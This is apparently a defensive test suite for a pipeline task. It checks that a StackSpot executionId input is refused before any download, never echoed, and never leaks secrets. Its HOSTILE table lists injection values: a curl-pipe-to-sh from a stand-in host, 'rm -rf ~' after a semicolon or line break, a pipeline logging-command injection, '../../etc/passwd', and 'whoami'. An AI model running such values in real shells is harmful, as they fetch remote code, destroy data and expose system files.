import { runTask } from "./support/agent";
import { inputCredentials } from "./support/credentials";
import { useAgent } from "./support/use-agent";

// Values a queue-time parameter could carry into a shell line in StackSpot's manual pipeline.
const HOSTILE: Array<[string, string, RegExp]> = [
  ["a space", "abc def", /position 4: a space \(U\+0020\)/],
  ["a double quote", 'abc"; id; "', /position 4: a double quote \(U\+0022\)/],
  ["a single quote", "abc' || true", /position 4: a single quote \(U\+0027\)/],
  ["a command substitution", "$(curl evil.example | sh)", /position 1: a dollar sign \(U\+0024\)/],
  ["an unexpanded macro", "$(workflowId)", /position 1: a dollar sign \(U\+0024\)/],
  ["back-ticks", "`id`", /position 1: a back-tick \(U\+0060\)/],
  ["a semicolon", "exec-1;rm -rf ~", /position 7: a semicolon \(U\+003B\)/],
  ["a new line", "exec-1\nrm -rf ~", /position 7: a line break \(U\+000A\)/],
  [
    "a logging command",
    "##vso[task.setvariable variable=pwned]yes",
    /position 1: a hash sign \(U\+0023\)/,
  ],
  ["a non-ASCII letter", "exécution", /position 3: a non-ASCII character \(U\+00E9\)/],
  ["an ampersand", "exec-1&&whoami", /position 7: an ampersand \(U\+0026\)/],
  ["a pipe", "exec|tee", /position 5: a vertical bar \(U\+007C\)/],
  ["a slash (path)", "../../etc/passwd", /position 3: a slash \(U\+002F\)/],
  ["129 characters", "x".repeat(129), /has 129 characters; at most 128/],
  ["only spaces", "   ", /executionId is empty/],
  // Passed as one argument, but the CLI would still read a leading dash as an option of its own.
  ["an option --help", "--help", /must start with a letter or a digit/],
  ["an option -h", "-h", /must start with a letter or a digit/],
  ["an option --debug", "--debug", /must start with a letter or a digit/],
  ["the end of options --", "--", /must start with a letter or a digit/],
  ["a leading dot", ".exec-1", /must start with a letter or a digit/],
];

describe("a hostile executionId", () => {
  const agent = useAgent({ scope: "all" });

  test.each(HOSTILE)(
    "with %s is refused before anything is downloaded, and never printed",
    async (_label, value, rule) => {
      const { key, inputs } = inputCredentials();
      const run = await runTask(agent.sandbox, {
        inputs: { ...inputs, executionId: value, ...agent.server.inputs },
        secrets: [key],
      });
      expect(run.result).toBe("Failed");
      expect(run.resultMessage).toMatch(/The input executionId/);
      expect(run.resultMessage).toMatch(rule);
      expect(run.resultMessage).toMatch(/workflow_execution_id/);
      expect(agent.server.requests).toEqual([]);
      expect(run.records).toEqual([]);
      expect(run.echoedCommands).toEqual([]);
      if (value.trim().length >= 3) {
        expect(run.stdout).not.toContain(value);
        expect(run.stderr).not.toContain(value);
      }
      // Only the task's own commands: nothing the value could have injected.
      expect(new Set(run.commands.map((c) => c.name))).toEqual(
        new Set(["task.debug", "task.setsecret", "task.issue", "task.complete"]),
      );
    },
  );

  test("an empty value is refused with the fix for the pipeline", async () => {
    const { key, inputs } = inputCredentials();
    const run = await runTask(agent.sandbox, {
      inputs: { ...inputs, executionId: "", ...agent.server.inputs },
      secrets: [key],
    });
    expect(run.result).toBe("Failed");
    expect(run.resultMessage).toContain("The input executionId is empty");
    expect(run.resultMessage).toContain("${{ parameters.workflow_execution_id }}");
    expect(agent.server.requests).toEqual([]);
  });

  // A queue-time `workflow_execution_id=$(STK_CLIENT_KEY)`: any description (length, position or
  // kind of a character) would tell something about the key.
  test.each([
    ["the key itself", (key: string) => key, (key: string) => key],
    ["text around the key", (key: string) => key, (key: string) => `exec-${key}-1`],
    ["a key with a slash", (key: string) => `k/${key}`, (key: string) => `k/${key}`],
    ["a key too long for an id", (key: string) => key.repeat(6), (key: string) => key.repeat(6)],
  ])("holding %s is refused without describing it", async (_label, makeKey, makeId) => {
    const { key, inputs } = inputCredentials();
    const secret = makeKey(key);
    const run = await runTask(agent.sandbox, {
      inputs: {
        ...inputs,
        clientKey: secret,
        executionId: makeId(key),
        ...agent.server.inputs,
      },
      secrets: [secret],
    });
    expect(run.result).toBe("Failed");
    expect(run.resultMessage).toBe(
      "The input executionId holds the value of a secret (nothing more is said about it). " +
        "Pass the id exactly as StackSpot sends it, `executionId: ${{ parameters.workflow_execution_id }}`, without adding text, quotes or commands to it.",
    );
    expect(agent.server.requests).toEqual([]);
    expect(run.records).toEqual([]);
  });
});
